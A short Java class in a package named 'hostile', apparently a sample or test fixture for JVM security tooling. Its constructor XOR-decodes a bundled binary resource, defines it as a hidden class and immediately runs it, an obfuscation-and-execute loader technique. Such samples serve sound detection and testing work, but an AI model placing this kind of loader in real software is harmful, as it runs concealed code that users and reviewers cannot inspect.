package hostile;

import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;

public final class Source {
    public Source() throws Throwable {
        byte[] bytes = Source.class.getResourceAsStream("/hostile/NoteHidden.bin").readAllBytes();
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] ^= 0x55;
        }

         MethodHandles.Lookup hidden = MethodHandles.lookup().defineHiddenClass(bytes, true);
         ((Runnable) hidden.findConstructor(hidden.lookupClass(), MethodType.methodType(void.class)).invoke()).run();
    }
}
